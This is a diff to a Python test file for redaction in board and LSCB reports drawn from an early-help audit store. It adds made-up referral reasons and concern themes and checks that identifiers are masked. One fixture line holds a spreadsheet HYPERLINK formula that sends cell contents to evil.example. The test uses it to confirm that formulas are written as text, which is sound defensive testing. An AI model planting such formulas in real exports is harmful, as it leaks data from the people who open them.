@@ -1,11 +1,12 @@
-"""Free text in board and LSCB reports: a theme recorded many times is shown only with the
-identifiers taken out (names and EHM numbers held in the store; dates, phone numbers,
-postcodes, email addresses and case numbers by their shape), and what a spreadsheet would run
-is written as text in the figures file.
+"""Free text in board and LSCB reports: a theme recorded many times, a referral reason or a
+concern theme is shown only with the identifiers taken out (names and EHM numbers held in the
+store; dates, phone numbers, postcodes, email addresses and case numbers by their shape), and
+what a spreadsheet would run is written as text in the figures file.
 
 The reports are the real notebooks, run with papermill and exported with nbconvert, on a copy
 of the demo store with a made-up child, worker and family planted in learning and actions
-recorded more often than the disclosure threshold (5).
+recorded more often than the disclosure threshold (5), and in the referral reason of open
+episodes and the theme of concerns raised in the quarter.
 """
 
 from __future__ import annotations
@@ -25,6 +26,8 @@ EHM = "QZ-77-EHM"  # not shaped like a case number: only the store knows it is o
 LEARNING = (f"{CHILD} ({EHM}, born 03/02/2014) lives at DL1 5QT; call 07700 900123 or "
             f"quorvexa.family@example.org; {WORKER} to lead")
 ALSO = "Make sure plantchild's wishes and Quorvexa's voice are recorded by 3 February 2026"
+REASON = f"Referred by {WORKER} about {CHILD}, {EHM}"
+THEME = f"{CHILD} at DL1 5QT was not listened to"
 FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{CHILD}")'
 SECRETS = ["quorvexa", "plantchild", EHM.lower(), "03/02/2014", DOB, "3 february 2026",
            "dl1 5qt", "07700 900123", "example.org", "zembrowska", "plantworker"]
@@ -51,6 +54,15 @@ def planted(demo_db_path, tmp_path_factory):
             database["audits"].update(a, {"learning": LEARNING if i < TIMES else ALSO})
         database["actions"].insert_all(
             {"audit_id": a, "number": 99, "action": FORMULA} for a in audits[:TIMES])
+        open_in_q3 = [r[0] for r in database.execute(
+            "SELECT id FROM episodes WHERE start_date <= '2026-09-30' AND (end_date IS NULL "
+            "OR end_date > '2026-09-30') ORDER BY id LIMIT 7")]
+        for e in open_in_q3:
+            database["episodes"].update(e, {"referral_reason": REASON})
+        database["service_user_feedback"].insert_all(
+            {"episode_id": e, "given_on": "2026-08-14", "respondent": "parent_carer",
+             "stage": "closure", "concern_raised": 1, "concern_theme": THEME}
+            for e in open_in_q3)
     database.close()
     return path
 
@@ -62,7 +74,8 @@ def rendered(planted, tmp_path_factory):
                                           out_dir=out)
             for kind, period, audience in (("annual", "2026", "lscb"),
                                            ("annual", "2026", "board"),
-                                           ("quarterly", "2026Q3", "board"))}
+                                           ("quarterly", "2026Q3", "board"),
+                                           ("quarterly", "2026Q3", "lscb"))}
 
 
 def _figures(path) -> list[list[str]]:
@@ -86,6 +99,9 @@ def test_a_redacted_theme_is_still_shown_and_the_report_says_what_was_taken_out(
     assert "Make sure [name]'s wishes and [name]'s voice are recorded by [date]" in html
     assert "2 of these had names, EHM numbers, dates" in html
     assert "1 of these had names" in html  # the actions: the formula named the child
+    quarterly = rendered[("quarterly", "board")].html.read_text(encoding="utf-8")
+    assert "<td>Referred by [name] about [name], [EHM number]</td>" in quarterly
+    assert "<td>[name] at [postcode] was not listened to</td>" in quarterly
 
 
 def test_figures_file_writes_a_repeated_formula_as_text(rendered):
